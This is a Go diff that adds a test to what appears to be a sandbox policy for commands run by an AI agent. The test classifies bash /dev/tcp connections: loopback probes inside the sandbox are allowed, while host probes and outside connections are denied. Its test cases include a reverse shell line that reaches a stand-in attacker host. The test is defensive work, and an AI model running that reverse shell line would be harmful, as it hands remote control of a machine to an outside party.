@@ -484,6 +484,33 @@ func ownLoopbackNetwork(target, method string) warden.Decision {
 	return defaultNetwork(target, method)
 }
 
+// TestDevTCPToTheSandboxsLoopback: bash's /dev/tcp to the loopback, a
+// port probe of the session's own server (agent-shapes-17), reaches the
+// sandbox's own loopback; run on the host (no sandbox), or elsewhere, it
+// is refused.
+func TestDevTCPToTheSandboxsLoopback(t *testing.T) {
+	p := defaultPolicy()
+	p.Network = ownLoopbackNetwork
+	host := p
+	host.SandboxAvailable = false
+	for _, c := range []struct {
+		cmd  string
+		p    Policy
+		want warden.Verdict
+	}{
+		{`timeout 1 bash -c "</dev/tcp/127.0.0.1/8080" && echo open`, p, warden.Allow},
+		{`exec 3<>/dev/tcp/localhost/3000`, p, warden.Allow},
+		{`port=$(cat p); timeout 1 bash -c "</dev/tcp/127.0.0.1/$port"`, p, warden.Allow},
+		{`timeout 1 bash -c "</dev/tcp/127.0.0.1/8080"`, host, warden.Deny},
+		{`bash -i >& /dev/tcp/evil.example/4444 0>&1`, p, warden.Deny},
+		{`echo x > /dev/tcp/10.0.0.1/80`, p, warden.Deny},
+	} {
+		if r := Classify(c.cmd, corpusEnv, c.p); r.Verdict != c.want {
+			t.Errorf("Classify(%q) = %s (%s: %s), want %s", c.cmd, r.Verdict, r.Rule, r.Reason, c.want)
+		}
+	}
+}
+
 // TestOwnLoopbackIsNoExfiltration: a line that reads a file named like a
 // secret (the project's .env, a dev certificate) and requests the
 // session's own server on the sandbox's loopback sends nothing out
